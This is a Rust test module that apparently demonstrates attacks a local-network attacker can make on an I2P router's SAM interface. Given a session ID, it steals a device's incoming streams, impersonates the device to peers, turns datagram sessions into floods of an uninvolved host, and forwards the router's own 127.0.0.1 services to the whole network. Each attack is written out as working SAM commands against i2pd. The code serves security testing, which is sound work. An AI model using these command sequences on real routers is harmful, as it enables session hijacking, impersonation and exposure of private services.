//! What somebody in the local network can do to a device that speaks SAM.
//!
//! Each attack takes the way to the router that the attacker has, and shows that it succeeded; it
//! fails with the error that stopped it.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::time::Duration;

use embedded_io::ErrorKind;
use sam_std::{Address, Session};

use crate::lan::{self, ATTACKER};
use crate::network::{self, Callers, Identity};
use crate::sam::{Sam, Way};

/// A service of the router's machine that has nothing to do with any of this.
const PRINTER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 77);

pub(crate) type Attack = fn(&Way<'_>, &Scene<'_>) -> Result<(), ErrorKind>;

/// Who is there.
pub(crate) struct Scene<'s> {
    /// What the attacker knows of the device's session.
    pub(crate) id: &'s str,
    /// The device's destination.
    pub(crate) device: Address,
    /// A peer of the device's, on another router.
    pub(crate) peer: &'s Session,
}

/// The attacks that need a session ID at most.
pub(crate) const ATTACKS: [(&str, Attack); 5] = [
    ("take streams that are for the device", take_its_streams),
    ("call peers as the device", call_as_the_device),
    ("ask who the router is", ask_who_the_router_is),
    ("have somebody flooded who never asked", flood_a_third_party),
    (
        "publish what is on the router's 127.0.0.1",
        publish_the_routers_own,
    ),
];

/// Gets the streams that peers open to the device.
pub(crate) fn take_its_streams(way: &Way<'_>, scene: &Scene<'_>) -> Result<(), ErrorKind> {
    let mut thief = Sam::greet(way)?;
    succeeds(&thief.ask(&format!("STREAM ACCEPT ID={}", scene.id))?)?;
    let mut stream = scene.peer.connect(scene.device.clone()).unwrap();
    stream.write_all(b"for the device alone").unwrap();
    assert!(
        thief
            .line()?
            .starts_with(&scene.peer.destination().to_string())
    );
    assert_eq!(thief.bytes(20)?, b"for the device alone");
    Ok(())
}

/// Calls a peer, who takes the caller for the device.
pub(crate) fn call_as_the_device(way: &Way<'_>, scene: &Scene<'_>) -> Result<(), ErrorKind> {
    let mut impostor = Sam::greet(way)?;
    let callers = Callers::of(scene.peer);
    let peer = scene.peer.destination();
    succeeds(&impostor.ask(&format!(
        "STREAM CONNECT ID={} DESTINATION={peer}",
        scene.id
    ))?)?;
    impostor.say(b"open the door")?;
    let mut stream = callers.next();
    let mut heard = [0; 13];
    stream.read_exact(&mut heard).unwrap();
    assert_eq!(&heard, b"open the door");
    assert_eq!(stream.peer().map(Address::from), Some(scene.device.clone()));
    Ok(())
}

/// Gets a destination of the router's own, without any session.
pub(crate) fn ask_who_the_router_is(way: &Way<'_>, _: &Scene<'_>) -> Result<(), ErrorKind> {
    let told = Sam::greet(way)?.ask("NAMING LOOKUP NAME=ME")?;
    let destination = told.strip_prefix("NAMING REPLY RESULT=OK NAME=ME VALUE=");
    assert!(destination.is_some_and(|text| text.len() >= 516), "{told}");
    Ok(())
}

/// Makes the router send to somebody who never asked, whatever peers send.
///
/// Here that is somebody on its own machine: the UDP socket of a SAM port on 127.0.0.1 reaches
/// nobody else. i2pd looks at the address in no other way.
pub(crate) fn flood_a_third_party(way: &Way<'_>, _: &Scene<'_>) -> Result<(), ErrorKind> {
    let printer = UdpSocket::bind((PRINTER, 0)).unwrap();
    printer
        .set_read_timeout(Some(Duration::from_secs(2)))
        .unwrap();
    let port = printer.local_addr().unwrap().port();
    let mut attacker = Sam::greet(way)?;
    let bait = Identity::fresh();
    let session = format!(
        "SESSION CREATE STYLE=DATAGRAM ID=bait{port} DESTINATION={} HOST={PRINTER} PORT={port}",
        bait.private
    );
    succeeds(&attacker.ask(&session)?)?;
    let someone = FarSession::create();
    let datagram = format!("3.0 {} {}\nflood", someone.id, bait.destination);
    let sends = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let is_flooded = (0..TRIES).any(|_| {
        sends
            .send_to(datagram.as_bytes(), network::far_ports().1)
            .unwrap();
        let mut room = [0; 4096];
        matches!(printer.recv(&mut room), Ok(count) if room[..count].ends_with(b"flood"))
    });
    assert!(is_flooded, "nothing came");
    Ok(())
}

/// Lets all of I2P reach what listens on the router's own 127.0.0.1.
///
/// i2pd 2.45.1 dials whoever asked, and a tunnel's end is on the router's own machine.
pub(crate) fn publish_the_routers_own(way: &Way<'_>, scene: &Scene<'_>) -> Result<(), ErrorKind> {
    let console = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = console.local_addr().unwrap().port();
    let mut attacker = Sam::greet(way)?;
    let identity = Identity::fresh();
    let session = format!(
        "SESSION CREATE STYLE=STREAM ID=leak{port} DESTINATION={}",
        identity.private
    );
    succeeds(&attacker.ask(&session)?)?;
    let mut forward = Sam::greet(way)?;
    succeeds(&forward.ask(&format!("STREAM FORWARD ID=leak{port} PORT={port}"))?)?;
    let mut stream = scene.peer.connect(identity.address).unwrap();
    stream.write_all(b"GET /").unwrap();
    let (mut visitor, _) = console.accept().unwrap();
    let mut heard = Vec::new();
    while !heard.ends_with(b"GET /") {
        let mut byte = [0];
        visitor.read_exact(&mut byte).unwrap();
        heard.extend(byte);
    }
    Ok(())
}

/// Sends datagrams as the session `id`, to where the attacker thinks the router takes them.
///
/// Returns whether a peer got one, from the device as it seems.
pub(crate) fn send_as_the_device(at: SocketAddr, id: &str, device: &Identity) -> bool {
    let attacker = lan::datagrams(ATTACKER);
    let mut peer = FarSession::create();
    let datagram = format!("3.0 {id} {}\nthe door is shut", peer.identity.destination);
    let heard = (0..TRIES).find_map(|_| {
        // Nobody there is an error of the next send.
        let _ = attacker.send_to(datagram.as_bytes(), at);
        peer.control.line().ok()
    });
    let Some(line) = heard else {
        return false;
    };
    assert!(line.contains(&device.destination), "{line}");
    assert_eq!(peer.control.bytes(16).unwrap(), b"the door is shut");
    true
}

/// The first datagrams to a destination get lost until i2pd knows its lease set.
const TRIES: usize = 8;

/// A session for datagrams on the other router.
struct FarSession {
    control: Sam,
    id: String,
    identity: Identity,
}

impl FarSession {
    fn create() -> Self {
        let mut control = Sam::greet(&Way::Local(network::far_ports().0)).unwrap();
        control.set_patience(Duration::from_secs(1));
        let identity = Identity::fresh_far();
        let id = format!("far{}", &identity.address.to_string()[..8]);
        let private = &identity.private;
        let session = format!("SESSION CREATE STYLE=DATAGRAM ID={id} DESTINATION={private}");
        succeeds(&control.ask(&session).unwrap()).unwrap();
        Self {
            control,
            id,
            identity,
        }
    }
}

/// A router that refuses has stopped the attack, too.
fn succeeds(told: &str) -> Result<(), ErrorKind> {
    if told.contains("RESULT=OK") {
        Ok(())
    } else {
        Err(ErrorKind::PermissionDenied)
    }
}
